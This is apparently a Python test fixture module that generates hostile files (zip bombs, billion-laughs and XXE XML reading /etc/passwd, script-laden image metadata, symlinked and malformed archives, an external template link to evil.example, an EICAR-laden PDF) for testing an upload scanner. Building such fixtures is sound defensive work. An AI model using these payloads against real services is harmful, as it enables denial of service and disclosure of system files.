"""Builders of hostile files; nothing is downloaded."""

import io
import random
import struct
import zipfile
import zlib

from PIL import Image
from PIL.PngImagePlugin import PngInfo

from tests.servers.clamd import EICAR

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n" + b" " * 40
TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
WORD = '<?xml version="1.0"?><w:document xmlns:w="x"><w:body/></w:document>'
BOOK = '<?xml version="1.0"?><workbook xmlns="x"/>'
LAUGHS = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)) + "]><x>&i;</x>"
XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
SCRIPT = b"<script>alert(1)</script>"
MOST = 10 * 2**20


def zipped(entries):
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return made.getvalue()


def docx(*more):
    return zipped([("[Content_Types].xml", TYPES), ("word/document.xml", WORD), *more])


def xlsx(*more):
    return zipped([("[Content_Types].xml", TYPES), ("xl/workbook.xml", BOOK), *more])


def noted(kind, part, media_type):
    """A document that says of one of its parts what it is."""
    types = TYPES.replace("/>", f'><Override PartName="/{part}" ContentType="{media_type}"/></Types>')
    main = ("word/document.xml", WORD) if kind == "docx" else ("xl/workbook.xml", BOOK)
    more = [(part, "x")] if part != main[0] else []
    return zipped([("[Content_Types].xml", types), main, *more])


def related(kind, mode="External"):
    """Notes of a document that one of its parts lies elsewhere."""
    return ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" '
            f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
            f'Target="http://evil.example/t.dotm" TargetMode="{mode}"/></Relationships>')


def far_down(text):
    """The same XML with so much before its DTD that a look at the beginning does not find it."""
    head, rest = text.split("?>", 1)
    return f"{head}?><!--{random.Random(2).randbytes(100_000).hex()}-->{rest}"


def pdf(*objects, trailer=b""):
    body = b"".join(b"%d 0 obj%sendobj\n" % (n, o) for n, o in enumerate(objects, 1))
    return b"%PDF-1.5\n" + body + b"trailer<<" + trailer + b">>\n%%EOF\n"


def many_pages(count=100_000):
    return pdf(*(b"<</Type/Page/Parent 1 0 R>>" for _ in range(count)))


def deep_tree(depth=50_000):
    return pdf(b"[" * depth + b"]" * depth)


def picture(kind="JPEG", size=(40, 30), **options):
    made = io.BytesIO()
    Image.new("RGB", size, "purple").save(made, kind, **options)
    return made.getvalue()


def located_photo(kind="JPEG"):
    """A photo that tells where it was taken, with a script in its comment."""
    exif = Image.Exif()
    exif.get_ifd(0x8825).update({1: "N", 2: (14.0, 41.0, 34.0), 3: "W", 4: (17.0, 26.0, 48.0)})
    exif[0x010F] = "SecretCamera"
    if kind != "PNG":
        return picture(kind, exif=exif, **({"comment": SCRIPT} if kind == "JPEG" else {"xmp": SCRIPT}))
    words = PngInfo()
    words.add_text("Comment", SCRIPT.decode())
    return picture(kind, exif=exif, pnginfo=words)


def flood(width=50_000, height=50_000):
    def chunk(name, data):
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")


def linked():
    entry = zipfile.ZipInfo("word/link")
    entry.create_system, entry.external_attr = 3, 0o120777 << 16
    return docx((entry, b"/etc/passwd"))


def bomb():
    """About 60 KB that unpack to 59 MB."""
    return xlsx(("xl/worksheets/sheet1.xml", b"<c/>" * (59 * 2**18)))


def lying():
    """The directory declares one byte for the last entry, whatever it unpacks to."""
    data = docx(("word/z.xml", b"abc" * 50))
    at = data.rindex(b"PK\x01\x02")
    return data[:at + 24] + struct.pack("<I", 1) + data[at + 28:]


def overlapping():
    """The last entry of the directory begins where the first does."""
    data = docx(("word/z.xml", b"abc" * 50))
    at = data.rindex(b"PK\x01\x02")
    return data[:at + 42] + struct.pack("<I", 0) + data[at + 46:]


def large_in_all():
    """Little enough packed to look honest, but 51 MB in all."""
    return docx(("word/noise.bin", random.Random(1).randbytes(2**20)), ("word/a.bin", b"0" * (50 * 2**20)))


def nested(name="word/42.zip"):
    inner = zipped([("a.txt", b"0" * 1000)])
    for level in range(5):
        inner = zipped([(f"{level}.zip", inner)])
    return docx((name, inner))


def quine():
    """An archive that holds itself, as far as its directory says."""
    data = docx(("word/self.docx.zip", b"x"))
    return data + data


def whole(size):
    return PDF + b" " * (size - len(PDF))


def sick():
    return pdf(b"<</Length 68>>stream\n" + EICAR + b"\nendstream")
